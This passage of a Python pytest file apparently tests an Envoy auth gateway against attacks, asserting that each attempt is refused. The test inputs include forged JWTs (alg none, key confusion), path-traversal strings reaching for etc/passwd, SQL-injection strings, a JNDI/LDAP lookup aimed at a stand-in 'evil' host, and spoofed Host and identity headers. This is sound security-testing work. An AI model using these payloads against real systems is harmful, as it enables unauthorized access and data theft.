"""Attack suite (issue 11): what an attacker would try against the gateway, through a
real Envoy with the real filters, grouped by class. Each case is named after the attack
and asserts the safe outcome: refused where it must be (no 2xx), the backend never saw a
refused request, and no secret of the backend's body reaches the client.

Most cases run against the demo gateway (`demo`, the repository's envoy.yaml). The ones
that need what the demo does not have (routes with a query, header or JSON-body account
id; a backend that misbehaves at the transport level: chunked bodies, trailers, early
close, duplicate headers; a route with a pathological requirement) run against
`attack_gw`: the same envoy.yaml plus extra routes and a scripted raw-socket backend
(`RawBackend`). Backend overrides use paths only these tests use, and are removed again.
"""

import base64
import gzip
import hashlib
import hmac
import json
import socket
import struct
import time
import zlib

import pytest
import requests
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding

from harness import tokens
from harness.gateway import Envoy, load_repo_config
from harness.raw import RawBackend, chunked, http_response, raw_http, request_bytes

SECRET_CPF = "SECRET-CPF-4711"
SECRET_MOTHER = "SECRET-MOTHER-4711"
SECRET_QA = "SECRET-QA-DATA-4711"
SECRETS = (SECRET_CPF, SECRET_MOTHER, SECRET_QA, "000.000.370.00", "Mãe")


def contract(cid="atk", owner="demostore"):
    """A contract whose hidden fields (for the demo user: `user.cpf`, `mother`) hold
    recognisable secrets."""
    return {"id": cid, "contractOwner": owner, "source": "adwords",
            "user": {"name": "U", "cpf": SECRET_CPF, "rendaMensal": 1},
            "mother": {"name": SECRET_MOTHER, "cpf": SECRET_CPF}}


def leaks(data):
    """The secrets found in `data` (bytes or str)."""
    if isinstance(data, bytes):
        data = data.decode("utf-8", "replace")
    return [s for s in SECRETS if s in data]


def not_2xx(status):
    return status is None or not 200 <= status < 300



class H2:
    """Just enough HTTP/2 (prior knowledge, h2c) to send one request with a body and
    trailers and read the status and body back. Envoy's listener codec is AUTO, so the
    demo configuration accepts HTTP/2 without TLS."""

    @staticmethod
    def _frame(kind, flags, stream, payload):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    @staticmethod
    def _int(value, prefix_bits, first=0):
        limit = (1 << prefix_bits) - 1
        if value < limit:
            return bytes([first | value])
        out, value = [first | limit], value - limit
        while value >= 128:
            out.append((value % 128) + 128)
            value //= 128
        out.append(value)
        return bytes(out)

    @classmethod
    def _block(cls, headers):
        out = b""
        for name, value in headers:
            n, v = name.encode(), value.encode()
            out += b"\x00" + cls._int(len(n), 7) + n + cls._int(len(v), 7) + v
        return out

    @staticmethod
    def _status(block):
        """:status from the first field of a response header block (Envoy sends it
        first): an indexed static entry, or a literal with name index 8, plain or
        Huffman-coded digits."""
        b = block[0]
        static = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
        if b & 0x80:
            return static.get(b & 0x7F)
        i = 1
        length_byte = block[i]
        huffman, length = length_byte & 0x80, length_byte & 0x7F
        value = block[i + 1:i + 1 + length]
        if not huffman:
            return int(value)
        bits = "".join(f"{x:08b}" for x in value)
        digits, pos = "", 0
        codes6 = {0x19: "3", 0x1A: "4", 0x1B: "5", 0x1C: "6", 0x1D: "7", 0x1E: "8", 0x1F: "9"}
        while len(digits) < 3 and pos + 5 <= len(bits):
            five = int(bits[pos:pos + 5], 2)
            if five <= 2:
                digits, pos = digits + str(five), pos + 5
            else:
                digits, pos = digits + codes6[int(bits[pos:pos + 6], 2)], pos + 6
        return int(digits)

    @classmethod
    def request(cls, port, headers, data_chunks=(), trailers=None, timeout=15):
        """Sends HEADERS, DATA frames and (optionally) trailing HEADERS on stream 1.
        Returns (status or None, body bytes)."""
        out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + cls._frame(4, 0, 0, b"")
        last_flags = 0 if (data_chunks or trailers) else 1
        out += cls._frame(1, 0x4 | last_flags, 1, cls._block(headers))
        for i, chunk in enumerate(data_chunks):
            end = 1 if (i == len(data_chunks) - 1 and not trailers) else 0
            out += cls._frame(0, end, 1, chunk)
        if trailers:
            out += cls._frame(1, 0x4 | 0x1, 1, cls._block(trailers))
        status, body, buf = None, b"", b""
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
            s.sendall(out)
            deadline = time.monotonic() + timeout
            while time.monotonic() < deadline:
                while len(buf) < 9 or len(buf) < 9 + int.from_bytes(buf[:3], "big"):
                    try:
                        chunk = s.recv(65536)
                    except (socket.timeout, ConnectionResetError):
                        chunk = b""
                    if not chunk:
                        return status, body
                    buf += chunk
                length = int.from_bytes(buf[:3], "big")
                kind, flags, stream = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload, buf = buf[9:9 + length], buf[9 + length:]
                if kind == 4 and not flags & 1:
                    s.sendall(cls._frame(4, 1, 0, b""))
                elif kind == 1 and stream == 1:
                    if flags & 0x8:  # PADDED
                        payload = payload[1:len(payload) - payload[0]]
                    if flags & 0x20:  # PRIORITY
                        payload = payload[5:]
                    if status is None:
                        status = cls._status(payload)
                    if flags & 1:
                        return status, body
                elif kind == 0 and stream == 1:
                    body += payload
                    if flags & 1:
                        return status, body
                elif kind in (3, 7):  # RST_STREAM, GOAWAY
                    return status, body
        return status, body


# --- gateways -----------------------------------------------------------------------------

def _no_hold():
    return {"portcullis.hold_response": {
        "@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.LuaPerRoute", "disabled": True}}


def _route(name, match, cluster, hold=True, **portcullis):
    route = {"name": name, "match": match, "route": {"cluster": cluster},
             "metadata": {"filter_metadata": {"portcullis": portcullis}}}
    if not hold:
        route["typed_per_filter_config"] = _no_hold()
    return route


ATTACK_ROUTES = [
    _route("atk-raw-whoami", {"path": "/atk/raw/whoami"}, "raw", hold=False, requirement="GET: authenticated", account="none"),
    _route("atk-raw-public", {"path": "/atk/raw/public"}, "raw", hold=False, requirement="GET: public", account="none"),
    _route("atk-raw-contract", {"prefix": "/atk/raw/contract/"}, "raw", requirement="GET: contract:one:read",
           response_accounts="block: contractOwner", account="none"),
    _route("atk-raw-contracts", {"prefix": "/atk/raw/contracts/"}, "raw", requirement="GET: contract:all:read",
           response_accounts="filter: [*].contractOwner", account="none"),
    _route("atk-raw-body", {"path": "/atk/raw/body"}, "raw", hold=False, requirement="POST: authenticated",
           account="body:account.id", request_hold="true"),
    _route("atk-body", {"path": "/atk/body"}, "backend", hold=False, requirement="POST: authenticated",
           account="body:account.id", request_hold="true"),
    _route("atk-query", {"path": "/atk/query"}, "backend", hold=False, requirement="GET: authenticated",
           account="query:account"),
    _route("atk-header", {"path": "/atk/header"}, "backend", hold=False, requirement="GET: authenticated",
           account="header:x-account-id"),
]


def attack_config(backend_port, raw_port, extra_routes=ATTACK_ROUTES):
    """The repository's envoy.yaml plus `extra_routes` (before the fallback) and a `raw`
    cluster (the RawBackend; HTTP/1 trailers enabled, as an HTTP/2 or gRPC upstream
    would send them)."""
    config = load_repo_config(backend_port)
    hcm = config["static_resources"]["listeners"][0]["filter_chains"][0]["filters"][0]["typed_config"]
    routes = hcm["route_config"]["virtual_hosts"][0]["routes"]
    routes[-1:-1] = extra_routes
    filters = hcm["http_filters"]
    if not any(f["name"] == "envoy.filters.http.buffer" for f in filters):
        # The request hold a route with a `body:` account id needs (the account filter
        # lets the headers go and checks the body as it comes; this keeps the request from
        # the router until the body is complete), as the renderer is to add it.
        filters.insert(len(filters) - 1, {"name": "envoy.filters.http.buffer", "typed_config": {
            "@type": "type.googleapis.com/envoy.extensions.filters.http.buffer.v3.Buffer",
            "max_request_bytes": 8388608}})
    config["static_resources"]["clusters"].append({
        "name": "raw", "type": "STATIC", "connect_timeout": "2s",
        "per_connection_buffer_limit_bytes": 8388608,
        "typed_extension_protocol_options": {"envoy.extensions.upstreams.http.v3.HttpProtocolOptions": {
            "@type": "type.googleapis.com/envoy.extensions.upstreams.http.v3.HttpProtocolOptions",
            "explicit_http_config": {"http_protocol_options": {"enable_trailers": True}}}},
        "load_assignment": {"cluster_name": "raw", "endpoints": [{"lb_endpoints": [{"endpoint": {
            "address": {"socket_address": {"address": "127.0.0.1", "port_value": raw_port}}}}]}]},
    })
    return config


@pytest.fixture(scope="module")
def raw():
    server = RawBackend()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def attack_gw(backend, raw):
    with Envoy(attack_config(backend.port, raw.port), name="attacks") as envoy:
        yield envoy


@pytest.fixture(scope="module")
def token(demo_key):
    """The demo user u1 (tenant acme, organization [demostore], role ATENDIMENTO)."""
    return demo_key.sign(tokens.claims())


@pytest.fixture
def override(backend):
    """Sets sample-backend overrides for this test only (paths only these tests use)."""
    paths = []

    def set_override(path, answer):
        assert path.startswith("/accounts/demostore/contracts/atk-"), "attack overrides use their own paths"
        backend.overrides[path] = answer
        paths.append(path)

    yield set_override
    for path in paths:
        backend.overrides.pop(path, None)


def b64(data):
    return tokens.b64(data)


def rs256(demo_key, header_json, payload_json):
    """A token signed by the real demo key over hand-written header and payload text."""
    signing_input = f"{b64(header_json)}.{b64(payload_json)}"
    sig = demo_key.private.sign(signing_input.encode(), padding.PKCS1v15(), hashes.SHA256())
    return f"{signing_input}.{b64(sig)}"


def hs256(secret, extra_header=None, claims=None):
    """An HS256 token with any secret (PyJWT refuses short ones), signed by hand."""
    header = {"alg": "HS256", "typ": "JWT"} | (extra_header or {})
    signing_input = f"{b64(json.dumps(header))}.{b64(json.dumps(claims or tokens.claims()))}"
    return f"{signing_input}.{b64(hmac.new(secret, signing_input.encode(), hashlib.sha256).digest())}"


def backend_saw(backend, marker):
    return [r for r in backend.requests if r["headers"].get("x-attack") == marker]


# === JWT =====================================================================================

class TestJwtAttacks:
    """Forged, confused and malformed tokens on the demo gateway: every one is a 401 and
    the backend never sees the request."""

    def refused(self, demo, backend, token, marker, path="/whoami", expect=401):
        r = demo.get(path, token=token, headers={"x-attack": marker})
        assert r.status_code == expect, (marker, r.status_code, r.text)
        assert not backend_saw(backend, marker), f"{marker}: the backend saw a refused request"
        assert token not in r.text and token not in json.dumps(dict(r.headers)), "the reason echoes the token"
        return r

    @pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE"])
    def test_alg_none_without_signature(self, demo, backend, alg):
        token = tokens.unsigned({"alg": alg, "typ": "JWT"}, tokens.claims())
        self.refused(demo, backend, token, f"alg-none-{alg}")

    @pytest.mark.parametrize("alg", ["none", "NONE"])
    def test_alg_none_with_a_signature(self, demo, backend, demo_key, alg):
        real = demo_key.sign(tokens.claims())
        token = tokens.unsigned({"alg": alg, "kid": "demo-rs256"}, tokens.claims()) + real.split(".")[2]
        self.refused(demo, backend, token, f"alg-none-sig-{alg}")

    @pytest.mark.parametrize("alg,digest", [("HS256", hashlib.sha256), ("HS384", hashlib.sha384),
                                            ("HS512", hashlib.sha512)])
    def test_alg_confusion_rs_to_hs_with_the_public_key_as_secret(self, demo, backend, demo_key, alg, digest):
        for kid, secret in [("demo-rs256", demo_key.public_pem()), (None, demo_key.public_pem()),
                            ("demo-rs256", json.dumps(demo_key.jwk()).encode())]:
            header = {"alg": alg, "typ": "JWT"} | ({"kid": kid} if kid else {})
            signing_input = f"{b64(json.dumps(header))}.{b64(json.dumps(tokens.claims()))}"
            sig = hmac.new(secret, signing_input.encode(), digest).digest()
            self.refused(demo, backend, f"{signing_input}.{b64(sig)}", f"confusion-{alg}-{kid}-{len(secret)}")

    @pytest.mark.parametrize("kid", ["../../../../../../dev/null", "/dev/null", "..%2f..%2fetc%2fpasswd",
                                     "demo-rs256/../demo-rs256", "demo-rs256\u0000", " demo-rs256", "DEMO-RS256"])
    def test_kid_with_path_traversal(self, demo, backend, kid):
        # Signed with an empty HMAC key (what /dev/null would give) and with a fresh RSA key.
        self.refused(demo, backend, hs256(b"", {"kid": kid}), f"kid-traversal-hs-{kid!r}")
        token = tokens.new_rsa(kid).sign(tokens.claims())
        self.refused(demo, backend, token, f"kid-traversal-rs-{kid!r}")

    @pytest.mark.parametrize("kid", ["' OR '1'='1", "x' UNION SELECT 'secret' -- ", "demo-rs256' --",
                                     "\"; DROP TABLE keys; --", "${jndi:ldap://evil/a}"])
    def test_kid_with_sql_like_content(self, demo, backend, kid):
        self.refused(demo, backend, hs256(b"secret", {"kid": kid}), f"kid-sql-hs-{kid}")
        self.refused(demo, backend, tokens.new_rsa(kid).sign(tokens.claims()), f"kid-sql-rs-{kid}")

    def test_jku_x5u_and_jwk_headers_are_ignored(self, demo, backend):
        attacker = tokens.new_rsa("attacker")
        jwk = attacker.jwk()
        for n, headers in enumerate([
            {"jku": "http://127.0.0.1:1/jwks.json"},
            {"x5u": "http://127.0.0.1:1/cert.pem"},
            {"jwk": jwk},
            {"jwk": dict(jwk, kid="demo-rs256"), "kid": "demo-rs256"},
            {"jku": "https://accounts.crontech.localhost/.well-known/jwks.json", "kid": "demo-rs256"},
            {"x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"], "kid": "demo-rs256"},
        ]):
            self.refused(demo, backend, attacker.sign(tokens.claims(), headers=headers), f"embedded-key-{n}")

    @pytest.mark.parametrize("crit", [["exp"], ["unknown-ext"], [], "b64", [1]])
    def test_crit_unknown(self, demo, backend, demo_key, crit):
        token = demo_key.sign(tokens.claims(), headers={"crit": crit, "unknown-ext": True})
        self.refused(demo, backend, token, f"crit-{crit!r}")

    def test_duplicate_claims_signed_by_the_real_key(self, demo, backend, demo_key):
        claims = json.dumps(tokens.claims())[:-1]
        header = json.dumps({"alg": "RS256", "kid": "demo-rs256"})
        for n, (h, p) in enumerate([
            (header, claims + ', "sub": "admin"}'),
            (header, claims + ', "tenant": "crontech"}'),
            (header, claims + ', "organization": ["qa"]}'),
            (header, claims + ', "roles": ["FINANCEIRO"]}'),
            (header, claims + ', "s\\u0075b": "admin"}'),  # an escaped duplicate is a duplicate
            ('{"alg": "RS256", "kid": "demo-rs256", "alg": "none"}', json.dumps(tokens.claims())),
            ('{"alg": "RS256", "kid": "demo-rs256", "kid": "other"}', json.dumps(tokens.claims())),
        ]):
            self.refused(demo, backend, rs256(demo_key, h, p), f"duplicate-claim-{n}")
        # Control: the same hand-signing with no duplicate passes.
        ok = rs256(demo_key, header, json.dumps(tokens.claims()))
        assert demo.get("/whoami", token=ok).status_code == 200

    def test_huge_token_is_refused_and_the_gateway_keeps_serving(self, demo, backend, demo_key, token):
        big = demo_key.sign(tokens.claims(padding="x" * 100_000))
        assert len(big) > 100_000
        r = demo.get("/whoami", token=big, headers={"x-attack": "huge-token"})
        assert r.status_code in (401, 431), r.status_code  # filter (401) or Envoy's header limit (431)
        assert not backend_saw(backend, "huge-token")
        nine_kb = demo_key.sign(tokens.claims(padding="x" * 9000))
        r = self.refused(demo, backend, nine_kb, "over-max-token-bytes")
        assert r.json()["error"] == "token_too_large"
        assert demo.get("/whoami", token=token).status_code == 200

    def test_huge_token_in_a_raw_request(self, demo, backend, token):
        status, _, _, _ = raw_http(demo.port, request_bytes("/whoami", token="a." * 60_000 + "b",
                                                           headers=[("x-attack", "raw-huge")]))
        assert not_2xx(status)
        assert not backend_saw(backend, "raw-huge")
        assert demo.get("/whoami", token=token).status_code == 200

    @pytest.mark.parametrize("segments", [
        ("not json", "{}", "c2ln"),
        ('{"alg":"RS256"}', "[]", "c2ln"),
        ('{"alg":"RS256"}', '"a string"', "c2ln"),
        ('{"alg":"RS256"}', '{"sub":"u1"} trailing', "c2ln"),
        ('["alg","RS256"]', "{}", "c2ln"),
        ('{"alg":"RS256"}\u0000', "{}", "c2ln"),
        ('{"alg":["RS256"]}', "{}", "c2ln"),
        ('{"alg":"RS256","kid":7}', "{}", "c2ln"),
    ], ids=lambda s: repr(s)[:40])
    def test_non_json_segments(self, demo, backend, segments):
        h, p, s = segments
        self.refused(demo, backend, f"{b64(h)}.{b64(p)}.{s}", f"non-json-{(h + p).encode().hex()}")

    @pytest.mark.parametrize("shape", ["padding", "std-alphabet", "spaces", "four-segments", "jwe-five",
                                       "empty-payload", "dots-only", "unicode"])
    def test_malformed_encodings(self, demo, backend, token, shape):
        h, p, s = token.split(".")
        bad = {
            "padding": f"{h}==.{p}.{s}",
            "std-alphabet": f"{h}.{p}.{s}".replace("-", "+").replace("_", "/") + "+/",
            "spaces": f"{h} .{p}.{s}",
            "four-segments": f"{h}.{p}.{s}.{s}",
            "jwe-five": f"{h}.{p}.{p}.{p}.{s}",
            "empty-payload": f"{h}..{s}",
            "dots-only": "....",
            "unicode": f"{h}.{p}é.{s}",
        }[shape]
        if shape == "spaces":
            # "Bearer <h> .<p>.<s>": a header value with inner spaces.
            r = demo.get("/whoami", headers={"authorization": f"Bearer {bad}", "x-attack": f"enc-{shape}"})
            assert r.status_code == 401 and not backend_saw(backend, f"enc-{shape}")
        elif shape == "unicode":
            status, _, _, _ = raw_http(demo.port, request_bytes("/whoami", token=bad, headers=[("x-attack", "enc-unicode")]))
            assert not_2xx(status) and not backend_saw(backend, "enc-unicode")
        else:
            self.refused(demo, backend, bad, f"enc-{shape}")

    def test_signature_of_another_token_is_refused(self, demo, backend, demo_key, token):
        other = demo_key.sign(tokens.claims(sub="someone-else"))
        h, p, _ = tokens.tamper(token, sub="admin").split(".")
        self.refused(demo, backend, f"{h}.{p}.{other.split('.')[2]}", "spliced-signature")

    def test_token_in_both_the_header_and_the_query(self, demo, backend, demo_key, token):
        admin = demo_key.sign(tokens.claims(sub="admin", roles=["FINANCEIRO"], scopes=["br.com.chaordic.cockpit/finance/reports"]))
        # The demo reads only `Authorization: Bearer`: a query token is never a credential.
        r = demo.get(f"/finance/reports?access_token={admin}", token=token, headers={"x-attack": "both-1"})
        assert r.status_code == 403 and not backend_saw(backend, "both-1")
        r = demo.get(f"/whoami?access_token={admin}", headers={"x-attack": "both-2"})
        assert r.status_code == 401 and not backend_saw(backend, "both-2")
        r = demo.get(f"/whoami?access_token={admin}", token="garbage", headers={"x-attack": "both-3"})
        assert r.status_code == 401 and not backend_saw(backend, "both-3")
        r = demo.get(f"/whoami?access_token={admin}", token=token)
        assert r.status_code == 200 and r.json()["x-portcullis-subject"] == "u1"

    def test_two_authorization_headers(self, demo, backend, demo_key, token):
        admin = demo_key.sign(tokens.claims(sub="admin", scopes=["br.com.chaordic.cockpit/finance/reports"]))
        for n, pair in enumerate([(token, admin), (admin, token), ("garbage", token), (token, "garbage")]):
            marker = f"two-authz-{n}"
            status, _, body, _ = raw_http(demo.port, request_bytes(
                "/finance/reports", headers=[("Authorization", f"Bearer {pair[0]}"),
                                             ("Authorization", f"Bearer {pair[1]}"), ("x-attack", marker)]))
            if pair[0] == admin:
                continue  # the first header is the admin's own valid token: nothing forged
            assert not_2xx(status), (n, status, body)
            assert not backend_saw(backend, marker)
        for record in backend.requests:
            if record["headers"].get("x-attack", "").startswith("two-authz"):
                assert "authorization" not in {k.lower() for k in record["headers"]}, "a bearer token reached the backend"


# === paths ===================================================================================

# Spellings of `/finance/reports` (the demo user lacks its scope) and of another
# account's contract (`qa`, not the user's): none may reach the backend.
FORBIDDEN_PATHS = {
    "dot-segments": "/sales/customerServices/../../finance/reports",
    "dot-segments-from-allowed-route": "/accounts/demostore/contracts/../../../finance/reports",
    "dot-segment-self": "/finance/./reports",
    "encoded-dots": "/sales/customerServices/%2e%2e/%2e%2e/finance/reports",
    "encoded-dots-upper": "/sales/customerServices/%2E%2E/%2E%2E/finance/reports",
    "mixed-dots": "/sales/customerServices/.%2e/%2e./finance/reports",
    "double-encoded-dots": "/sales/customerServices/%252e%252e/%252e%252e/finance/reports",
    "encoded-slash": "/finance%2freports",
    "encoded-slash-upper": "/finance%2Freports",
    "double-encoded-slash": "/finance%252freports",
    "encoded-slash-traversal": "/accounts/demostore/contracts/..%2f..%2fqa%2fcontracts%2f999",
    "backslash": "/finance\\reports",
    "backslash-traversal": "/sales\\..\\..\\finance\\reports",
    "encoded-backslash": "/finance%5creports",
    "encoded-backslash-traversal": "/sales/customerServices/..%5c..%5cfinance%5creports",
    "semicolon-parameter": "/finance/reports;jsessionid=1",
    "semicolon-segment": "/finance;x=1/reports",
    "semicolon-traversal": "/sales/customerServices/..;/..;/finance/reports",
    "semicolon-on-allowed-route": "/accounts/demostore;/../qa/contracts/999",
    "upper-case": "/FINANCE/REPORTS",
    "mixed-case": "/Finance/reports",
    "fragment": "/finance/reports#x",
    "fragment-after-allowed": "/whoami#/../finance/reports",
    "encoded-fragment": "/finance/reports%23",
    "overlong-utf8-dots": "/sales/customerServices/%c0%ae%c0%ae/%c0%ae%c0%ae/finance/reports",
    "overlong-utf8-dots-upper": "/sales/customerServices/%C0%AE%C0%AE/%C0%AE%C0%AE/finance/reports",
    "overlong-utf8-slash": "/finance%c0%afreports",
    "three-byte-overlong-dot": "/sales/customerServices/%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/finance/reports",
    "encoded-unreserved": "/%66inance/reports",
    "double-slash": "//finance/reports",
    "leading-dot": "/./finance/reports",
    "trailing-slash": "/finance/reports/",
    "nul-byte": "/finance/reports%00",
    "nul-then-allowed": "/finance/reports%00/../../whoami",
    "tab": "/finance/reports%09",
    "absolute-uri-path": "/http://acme.localhost/finance/reports",
    "other-account": "/accounts/qa/contracts/999",
    "other-account-upper": "/accounts/QA/contracts/999",
    "other-account-encoded": "/accounts/q%61/contracts/999",
    "other-account-traversal": "/accounts/demostore/../qa/contracts/999",
    "other-account-traversal-encoded": "/accounts/demostore/%2e%2e/qa/contracts/999",
    "other-account-comma": "/accounts/demostore,qa/contracts/999",
    "other-account-semicolon": "/accounts/demostore;qa/contracts/999",
    "other-account-plus": "/accounts/demostore+qa/contracts/999",
    "other-account-at": "/accounts/qa@demostore/contracts/999",
    "other-account-encoded-comma": "/accounts/demostore%2Cqa/contracts/999",
    "other-account-nul": "/accounts/qa%00demostore/contracts/999",
    "other-account-space": "/accounts/qa%20/contracts/999",
}


class TestPathAttacks:
    """Path spellings that a backend might resolve to a resource the route check did not
    see. Sent raw (no client-side normalisation) with the demo user's token."""

    @pytest.mark.parametrize("name", sorted(FORBIDDEN_PATHS))
    def test_path_trick_never_reaches_a_forbidden_resource(self, demo, backend, token, name):
        marker = f"path-{name}"
        status, _, body, _ = raw_http(demo.port, request_bytes(FORBIDDEN_PATHS[name], token=token,
                                                               headers=[("x-attack", marker)]))
        assert not_2xx(status), (name, status, body[:200])
        assert not backend_saw(backend, marker), f"{name}: the backend saw {backend_saw(backend, marker)[0]['path']}"

    @pytest.mark.parametrize("path", ["/whoami/..", "/public/health/../../whoami",
                                      "/public/health/..%2f..%2fwhoami", "/public/%2e%2e/whoami"])
    def test_public_route_cannot_be_used_to_reach_a_protected_one_without_a_token(self, demo, backend, path):
        marker = f"public-escape-{path}"
        status, _, _, _ = raw_http(demo.port, request_bytes(path, headers=[("x-attack", marker)]))
        assert not_2xx(status), (path, status)
        for record in backend_saw(backend, marker):
            assert record["path"] == "/public/health", record["path"]

    def test_method_not_listed_is_refused_before_the_backend(self, demo, backend, token):
        for n, (method, path) in enumerate([("GET", "/sales/customerServices/stockout"),
                                            ("DELETE", "/accounts/demostore/contracts/123-456"),
                                            ("PUT", "/accounts/demostore/contracts/123-456"),
                                            ("PATCH", "/whoami"), ("TRACE", "/whoami"), ("OPTIONS", "/whoami"),
                                            ("get", "/whoami"), ("CONNECT", "/whoami")]):
            marker = f"method-{n}"
            status, _, _, _ = raw_http(demo.port, request_bytes(path, token=token, method=method,
                                                               headers=[("x-attack", marker)]))
            assert not_2xx(status), (method, path, status)
            assert not backend_saw(backend, marker)

    @pytest.mark.parametrize("header", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
    def test_method_override_header_cannot_change_the_checked_method(self, demo, backend, token, header):
        # GET is allowed on the contract; a backend honouring the override would run a
        # DELETE the route never allowed.
        marker = f"override-{header}"
        r = demo.get("/accounts/demostore/contracts/123-456", token=token,
                     headers={header: "DELETE", "x-attack": marker})
        assert r.status_code in (400, 403), r.status_code
        assert not backend_saw(backend, marker)
        # Naming the request's own method is harmless and passes.
        r = demo.get("/accounts/demostore/contracts/123-456", token=token, headers={header: "GET"})
        assert r.status_code == 200

    def test_allowed_route_still_works_with_a_query(self, demo, token):
        r = demo.get("/accounts/demostore/contracts/123-456?x=%2e%2e%2f", token=token)
        assert r.status_code == 200 and not leaks(r.content)


# === hosts ===================================================================================

class TestHostAttacks:
    """The tenant comes from the host only, one normal form, never a look-alike."""

    @pytest.mark.parametrize("host", ["ACME.LOCALHOST", "Acme.Localhost", "acme.localhost:10000",
                                      "acme.localhost.", "acme.localhost.:443", "shop.acme.localhost",
                                      "SHOP.Acme.LocalHost.:8080"])
    def test_host_spellings_of_the_tenant_resolve_to_it(self, demo, token, host):
        r = demo.get("/whoami", host=host, token=token)
        assert r.status_code == 200, (host, r.status_code, r.text)
        assert r.json()["x-portcullis-tenant"] == "acme"

    @pytest.mark.parametrize("host", [
        "acme.localhost..", "acme.localhost:99999", "acme.localhost:abc", "acme.localhost:-1",
        "acme.localhost:", "evil.localhost@acme.localhost", "acme.localhost@evil.localhost",
        "acme.localhost%00.evil", "acme.localhost%2f", "acme.localhost/x", "acme.localhost\\x",
        ".acme.localhost", "a..acme.localhost", "*.acme.localhost", "acme.localhost,crontech.localhost",
        "xn--acme.localhost", "acme.localhost:80:80", "[::1]:10000", "127.0.0.1", "localhost",
        "acme.localhost.evil", "evilacme.localhost", "acme-localhost",
    ])
    def test_malformed_or_foreign_host_is_refused(self, demo, backend, token, host):
        marker = f"host-{host}"
        status, _, _, _ = raw_http(demo.port, request_bytes("/whoami", host=host, token=token,
                                                           headers=[("x-attack", marker)]))
        assert not_2xx(status), (host, status)
        assert not backend_saw(backend, marker)

    @pytest.mark.parametrize("host", ["аcme.localhost", "acme.locaⅼhost", "acme.localhoſt", "ACME.LOCAL\u212aHOST"])
    def test_unicode_look_alike_host_is_refused(self, demo, backend, token, host):
        marker = f"lookalike-{host.encode().hex()}"
        status, _, _, _ = raw_http(demo.port, request_bytes("/whoami", host=host, token=token,
                                                           headers=[("x-attack", marker)]))
        assert not_2xx(status), (host, status)
        assert not backend_saw(backend, marker)

    def test_token_of_another_tenant_on_a_wildcard_subdomain(self, demo, backend, demo_key):
        crontech = demo_key.sign(tokens.claims(tenant="crontech", organization=["crontech"]))
        for host in ["crontech.acme.localhost", "crontech.localhost.acme.localhost"]:
            r = demo.get("/whoami", host=host, token=crontech, headers={"x-attack": f"wild-{host}"})
            assert r.status_code == 403 and not backend_saw(backend, f"wild-{host}")

    def test_two_host_headers(self, demo, backend, demo_key, token):
        crontech = demo_key.sign(tokens.claims(tenant="crontech", organization=["crontech"]))
        for n, (hosts, tok) in enumerate([(("acme.localhost", "crontech.localhost"), token),
                                          (("crontech.localhost", "acme.localhost"), token),
                                          (("acme.localhost", "crontech.localhost"), crontech),
                                          (("crontech.localhost", "acme.localhost"), crontech),
                                          (("acme.localhost", "acme.localhost"), token)]):
            marker = f"two-hosts-{n}"
            status, _, _, _ = raw_http(demo.port, request_bytes("/whoami", host=hosts[0], extra_host_lines=[hosts[1]],
                                                               token=tok, headers=[("x-attack", marker)]))
            assert not_2xx(status), (hosts, status)
            assert not backend_saw(backend, marker)

    @pytest.mark.parametrize("target,host,expect_tenant", [
        ("http://evil.localhost/whoami", "acme.localhost", None),
        ("http://crontech.localhost/whoami", "acme.localhost", None),
        ("http://acme.localhost/whoami", "evil.localhost", "acme"),
        ("http://acme.localhost@crontech.localhost/whoami", "acme.localhost", None),
        ("http://crontech.localhost#@acme.localhost/whoami", "acme.localhost", None),
        ("https://acme.localhost:443/finance/reports", "acme.localhost", None),
    ])
    def test_absolute_form_request_target(self, demo, backend, token, target, host, expect_tenant):
        """`GET http://other/...` with a Host header: the tenant must be the one of the
        authority the backend gets, whichever Envoy picks, or the request is refused."""
        marker = f"absolute-{target}-{host}"
        status, _, body, _ = raw_http(demo.port, request_bytes(target, host=host, token=token,
                                                              headers=[("x-attack", marker)]))
        seen = backend_saw(backend, marker)
        if expect_tenant is None:
            assert not_2xx(status), (target, status, body[:200])
            assert not seen
        elif not_2xx(status):
            assert not seen
        else:
            (record,) = seen
            headers = {k.lower(): v for k, v in record["headers"].items()}
            assert headers["x-portcullis-tenant"] == expect_tenant
            assert headers["host"].split(":")[0].rstrip(".").lower() in ("acme.localhost",), headers["host"]

    def test_x_forwarded_host_and_forwarded_never_choose_the_tenant(self, demo, backend, token):
        for n, extra in enumerate([("X-Forwarded-Host", "crontech.localhost"), ("Forwarded", "host=crontech.localhost"),
                                   ("X-Host", "crontech.localhost"), ("X-Original-Host", "crontech.localhost")]):
            r = demo.get("/whoami", host="evil.localhost", token=token, headers={extra[0]: extra[1], "x-attack": f"xfh-{n}"})
            assert r.status_code == 403 and not backend_saw(backend, f"xfh-{n}")
            r = demo.get("/whoami", token=token, headers={extra[0]: extra[1]})
            assert r.status_code == 200 and r.json()["x-portcullis-tenant"] == "acme"

    def test_missing_or_empty_host(self, demo, backend, token):
        for n, data in enumerate([
            request_bytes("/whoami", host=None, token=token, headers=[("x-attack", "nohost-0")]),
            request_bytes("/whoami", host="", token=token, headers=[("x-attack", "nohost-1")]),
            request_bytes("/whoami", host=None, token=token, version="HTTP/1.0", headers=[("x-attack", "nohost-2")]),
        ]):
            status, _, _, _ = raw_http(demo.port, data)
            assert not_2xx(status), (n, status)
            assert not backend_saw(backend, f"nohost-{n}")


# === client-sent identity headers ============================================================

FORGED_LINES = [
    "X-PORTCULLIS-SUBJECT: admin",
    "x-Portcullis-Subject: admin",
    "x-portcullis-subject: admin",
    "x-portcullis-subject: admin2",
    "X-Portcullis-Tenant: crontech",
    "x-portcullis-accounts: qa",
    "x-portcullis-accounts: crontech,qa",
    "x-portcullis-anything: x",
    "x-portcullis-: x",
    "x_portcullis_subject: admin",
    "X_Portcullis_Tenant: crontech",
    "x-portcullis_accounts: qa",
